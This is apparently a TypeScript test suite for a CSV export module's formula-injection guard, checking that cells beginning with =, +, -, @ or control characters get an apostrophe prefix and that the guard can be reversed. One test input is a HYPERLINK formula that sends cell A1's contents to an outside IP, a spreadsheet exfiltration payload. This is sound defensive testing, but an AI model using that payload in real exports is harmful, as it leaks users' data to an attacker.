import { describe, expect, it } from 'vitest';

import { formatCsvRow, guardFormula } from '../../../src/core/export/csv-row.ts';
import { parseCsvRows, unguardCell } from './csv-reread.ts';

describe('guardFormula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://203.0.113.9/?"&A1)', '\'=HYPERLINK("http://203.0.113.9/?"&A1)'],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3', "'-2+3"],
    ['-', "'-"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\0=1', "'\0=1"],
    ["'=x", "''=x"],
    ["''@x", "'''@x"],
  ])('guards %j', (cell, guarded) => {
    expect(guardFormula(cell)).toBe(guarded);
  });

  it.each(['-5', '+1.5', '-.5', '-2e3', '+14155550100', '0', '42'])('keeps the number %j', (cell) => {
    expect(guardFormula(cell)).toBe(cell);
  });

  it.each(['', 'user1@example.com', "'quoted", "'5", 'a=b', ' =1+1', 'Client=REST;Client=RESTSystem;;'])(
    'keeps the text %j',
    (cell) => {
      expect(guardFormula(cell)).toBe(cell);
    },
  );

  it('looks only at the start of a multivalue cell', () => {
    expect(guardFormula('user1@example.com\n=1+1')).toBe('user1@example.com\n=1+1');
  });
});

describe('unguardCell', () => {
  it.each(['=1+1', "'=x", "''-y", "'5", "'", '-5', 'plain', '\t', "'\t"])('reverses the guard of %j', (value) => {
    expect(unguardCell(guardFormula(value))).toBe(value);
  });
});

describe('formatCsvRow', () => {
  it('guards before quoting', () => {
    expect(formatCsvRow(['=A1,B1', '-5', 'x'])).toBe('"\'=A1,B1",-5,x\r\n');
  });

  it('keeps a guarded multi-line cell as one cell', () => {
    const row = formatCsvRow(['=1+1\n@SUM(A1)', '7']);
    const [parsed] = parseCsvRows(`a,b\r\n${row}`);

    expect(row).toBe('"\'=1+1\n@SUM(A1)",7\r\n');
    expect(parsed).toEqual({ a: "'=1+1\n@SUM(A1)", b: '7' });
  });

  it('quotes a cell that starts with CR', () => {
    expect(formatCsvRow(['\r=1'])).toBe('"\'\r=1"\r\n');
  });
});
